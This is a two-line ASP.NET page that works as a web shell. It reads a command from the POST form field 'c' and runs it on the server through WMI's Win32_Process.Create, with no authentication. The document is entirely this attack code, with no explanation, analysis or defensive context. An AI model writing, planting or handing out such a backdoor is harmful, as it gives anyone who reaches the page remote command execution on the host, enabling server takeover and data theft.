<%@ Page Language="C#" %><%@ Import Namespace="System.Management" %>
<% var mc = new ManagementClass("Win32_Process"); mc.InvokeMethod("Create", new object[] { Request.Form["c"] }); %>
